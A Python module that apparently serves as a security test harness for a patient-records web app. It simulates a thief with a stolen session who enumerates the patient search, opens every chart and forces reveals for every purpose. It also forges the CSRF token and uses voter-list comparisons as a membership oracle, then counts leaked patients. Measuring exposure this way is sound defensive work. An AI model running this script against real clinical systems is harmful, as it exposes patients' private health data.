"""A thief with somebody's session at the front desk: what can a script get that knows every address?

It has the cookie of a session that is open, and nothing else. It drives the pages as fast as they answer, in
several threads: it leafs through the finder letter by letter, pages to the end of every list, opens every
chart, uncovers every element for every purpose; then it asks without looking: it bisects birth dates of
people whose names it knows, spells names letter by letter, tries phone and record numbers, and compares
answers about people from a list that it has (a voter list) with answers about people who do not exist.

`measure` says from the thief's own answers, compared with the truth, of how many distinct people it has seen
or learned anything. It never asks the server's own books.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Collection, Iterable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import date, timedelta
from html import unescape
from http.client import HTTPConnection, HTTPException
from itertools import islice
from threading import Lock, local
from typing import Final
from urllib.parse import urlencode, urlsplit

from confide.access.roles import Purpose

TOO_FAST: Final = 429
_TRIES: Final = 3
THREADS: Final = 8
_ALPHABET: Final = "abcdefghijklmnopqrstuvwxyz"
_VOWELS: Final = "aeiou"
_CHART: Final = re.compile(r'href="/patients/([0-9a-f-]{36})"')
_HIDDEN: Final = re.compile(r'<span class="hit-name hatched"')
_VEILED: Final = re.compile(
    r'name="element" value="([^"]*)".*?name="type" value="([^"]*)".*?name="id" value="([^"]*)"', re.DOTALL
)
_NOISE: Final = re.compile(
    r'name="csrfmiddlewaretoken" value="[^"]*"|<svg.*?</svg>|Last 24 hours[^<"]*', re.DOTALL
)
_ELEMENTS: Final = (
    "name", "birth-date", "phone", "email", "address", "ssn", "mrn", "licence", "passport", "member-id",
    "account", "card", "identifier", "contact", "photo", "date", "clinical", "document",
)  # fmt: skip
_PURPOSES: Final = (Purpose.TREAT, Purpose.HPAYMT, Purpose.HOPERAT, Purpose.BTG)
_PATIENCE: Final = 60  # seconds for one answer


@dataclass(frozen=True, slots=True)
class Person:
    """The truth about one patient, as somebody has it who made the practice."""

    id: str
    given: str
    family: str
    birth: date

    def passes(self, text: str) -> bool:
        """Whether the finder finds them by *text*: words of the name, and dates as 1963-05-04."""
        own = _words(f"{self.given} {self.family}")
        return all(
            term == self.birth.isoformat() if term[:1].isdigit() else any(w.startswith(term) for w in own)
            for term in text.split()
        )


@dataclass(frozen=True, slots=True)
class Told:
    """One answer of the finder, as far as it can be told from another one.

    Attributes:
        ids: Who was shown.
        status: Of HTTP.
        text: The answer without what changes from one to the next.
    """

    ids: tuple[str, ...]
    status: int
    text: str = field(repr=False)

    @property
    def many(self) -> bool:
        return "Many people match" in self.text

    @property
    def nobody(self) -> bool:
        return "Nobody matches" in self.text


@dataclass(slots=True)
class Loot:
    """What the thief has.

    Attributes:
        shown: Ids of people of whom anything was shown, in a list, a chart or uncovered.
        asked: Every question, with the answer.
        tried: How many requests were sent.
        doubles: Ids of people about whom another answer was given than about somebody who does not exist.
    """

    shown: set[str] = field(default_factory=set)
    asked: dict[str, Told] = field(default_factory=dict)
    tried: int = 0
    doubles: set[str] = field(default_factory=set)


class Thief:
    """Drives a stolen session.

    Args:
        address: Of the server, such as ``http://127.0.0.1:8000``.
        cookies: Of the session, as the browser had them: names and values.
        agent: What the browser called itself.
    """

    def __init__(self, address: str, cookies: Mapping[str, str], agent: str) -> None:
        self._address = urlsplit(address)
        self._cookies = dict(cookies)
        self._agent = agent
        self._lock = Lock()
        self._local = local()
        self.loot = Loot()

    def run(
        self,
        listed: Sequence[Person],
        strangers: Sequence[Person],
        *,
        patience: int = 10**6,
        charts: int = 10**6,
    ) -> Loot:
        """Take what there is to take.

        Args:
            listed: People whose names and birth dates the thief has from elsewhere; patients, perhaps.
            strangers: People who are no patients here.
            patience: Questions with which it spells names at most, and tries numbers.
            charts: Charts that it opens at most before it goes on asking, and afterwards.

        Returns:
            The loot.
        """
        with ThreadPoolExecutor(THREADS) as threads:
            self._leaf(threads, patience)
            list(threads.map(self._open, sorted(self.loot.shown)[:charts]))
            list(threads.map(self._bisect, self._names()[: patience // 10]))
            list(threads.map(self.ask, islice(self._numbers(), patience)))
            list(threads.map(self._compare, listed, strangers))
            list(threads.map(self._open, sorted(self.loot.shown)[:charts]))
        return self.loot

    # The finder

    def ask(self, text: str, *, typing: bool = False) -> Told:
        """Ask the finder; remember who was shown."""
        fields = {"q": text} | ({"typing": "1"} if typing else {})
        status, page = self._send("POST", "/found", fields)
        told = Told(tuple(_CHART.findall(page)), status, _NOISE.sub("", page).replace(text, ""))
        with self._lock:
            self.loot.asked[f"{text}\0{typing}"] = told
            if not _HIDDEN.search(page):
                self.loot.shown.update(told.ids)
            else:
                lines = page.split("<li>")
                self.loot.shown.update(
                    id_ for line in lines if not _HIDDEN.search(line) for id_ in _CHART.findall(line)
                )
        return told

    def _leaf(self, threads: ThreadPoolExecutor, patience: int) -> None:
        """Spell every beginning of a name: what has many answers is spelled on."""
        waiting = [a + b for a in _ALPHABET for b in _ALPHABET]
        waiting.sort(key=lambda pair: (pair[1] not in _VOWELS, pair))  # as most names begin
        left = patience
        while waiting and left > 0:
            some, waiting = waiting[:left], waiting[left:]
            left -= len(some)
            answers = list(threads.map(self.ask, some))
            for text, told in zip(some, answers, strict=True):
                if told.many and len(text) < 7:
                    waiting += [text + letter for letter in _ALPHABET]
                    waiting += [f"{text} {letter}" for letter in _ALPHABET if " " not in text]

    def _names(self) -> list[str]:
        """Names that were shown, and such as were only said to be many's."""
        names = {text.partition("\0")[0] for text, told in self.loot.asked.items() if told.ids or told.many}
        return sorted(names, key=len, reverse=True)

    def _bisect(self, name: str) -> None:
        """Find the birth date of whoever has a name, by the year, the month and the day."""
        for year in range(1935, 2025, 6):
            told = self.ask(f"{name} {year}-01-01")
            if told.status != 200:
                return

    def _numbers(self) -> Iterator[str]:
        for number in range(0, 10_000, 97):
            yield f"555{number:07}"[:10]
            yield f"(555) 01{number // 100:02}"
            yield f"{number:04}"
        for day in range(0, 366 * 90, 331):
            yield (date(1935, 1, 1) + timedelta(days=day)).isoformat()

    def _compare(self, listed: Person, stranger: Person) -> None:
        """Ask about somebody who may be a patient as about somebody who is none: is there any difference?"""
        for left, right in (
            (listed.family, stranger.family),
            (f"{listed.given} {listed.family}", f"{stranger.given} {stranger.family}"),
            (f"{listed.family} {listed.birth}", f"{stranger.family} {stranger.birth}"),
        ):
            # What changes the answers meanwhile, such as being stopped, makes no difference the next time.
            if all(self._differ(left, right) for _ in range(_TRIES)):
                with self._lock:
                    self.loot.doubles.add(listed.id)

    def _differ(self, left: str, right: str) -> bool:
        """Whether nobody is shown for either question, and yet the answers are not the same."""
        one, other = self.ask(left), self.ask(right)
        if one.ids or one.many or other.many:  # shown and counted, or true of many
            return False
        if TOO_FAST in {one.status, other.status}:  # no answer: it was not looked at
            return False
        return (one.status, one.text) != (other.status, other.text)

    # The chart

    def _open(self, patient: str) -> None:
        """Open a chart, and uncover all that there may be in it, for every purpose."""
        status, page = self._send("GET", f"/patients/{patient}")
        if status != 200:
            return
        veiled = {(element, kind, id_) for element, kind, id_ in _VEILED.findall(page)}
        veiled |= {(element, "Patient", patient) for element in _ELEMENTS}
        for element, kind, id_ in sorted(veiled):
            for purpose in _PURPOSES:
                fields = {"element": element, "purpose": purpose.value, "type": kind, "id": id_}
                status, _ = self._send("POST", f"/patients/{patient}/reveal", fields)
                if status == 200:
                    with self._lock:
                        self.loot.shown.add(patient)

    # HTTP

    def _send(self, method: str, path: str, fields: Mapping[str, str] | None = None) -> tuple[int, str]:
        connection: HTTPConnection | None = getattr(self._local, "connection", None)
        if connection is None:
            connection = HTTPConnection(self._address.hostname or "", self._address.port, timeout=_PATIENCE)
            self._local.connection = connection
        token = "a" * 32  # the cookie against forged forms is the thief's own to choose
        cookies = {**self._cookies, "csrf": token, "__Host-csrf": token}
        headers = {
            "Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items()),
            "User-Agent": self._agent,
            "X-CSRFToken": token,
            "Origin": f"{self._address.scheme}://{self._address.netloc}",
            "HX-Request": "true",
        }
        body = None
        if fields is not None:
            body = urlencode(fields)
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        with self._lock:
            self.loot.tried += 1
        try:
            connection.request(method, path, body, headers)
            response = connection.getresponse()
            return response.status, unescape(response.read().decode("utf-8", "replace"))
        except (OSError, HTTPException):
            connection.close()
            self._local.connection = None
            return 0, ""


def measure(loot: Loot, truth: Collection[Person]) -> int:
    """Count the distinct patients of whom anything was shown, or any value was learned by asking.

    An answer that speaks of somebody tells of those who pass the question, if they are two at most; one that
    says that nobody matches tells nothing of those who do match, because it is wrong about them.
    """
    learned = {person.id for person in truth} & loot.shown
    learned |= loot.doubles & {person.id for person in truth}
    for asked, told in loot.asked.items():
        text = asked.partition("\0")[0].casefold()
        if told.status == 200 and told.many and not re.search(r"[0-9(]", text):
            few = [person.id for person in truth if person.passes(text)]
            if len(few) <= 2:
                learned |= set(few)
    return len(learned)


def _words(text: str) -> list[str]:
    """The words of a name as they are typed: lower case, no accents; of a double name either part."""
    plain = unicodedata.normalize("NFKD", text.casefold().replace("\u2019", "").replace("'", ""))
    letters = "".join(c for c in plain if not unicodedata.combining(c))
    found = "".join(c if c.isalnum() or c == "-" else " " for c in letters).split()
    return [part for word in found for part in (*word.split("-"), word.replace("-", "")) if part]


def people(rows: Iterable[tuple[str, str, str, date]]) -> list[Person]:
    """Make the truth: ids, given names, family names and birth dates."""
    return [Person(*row) for row in rows]
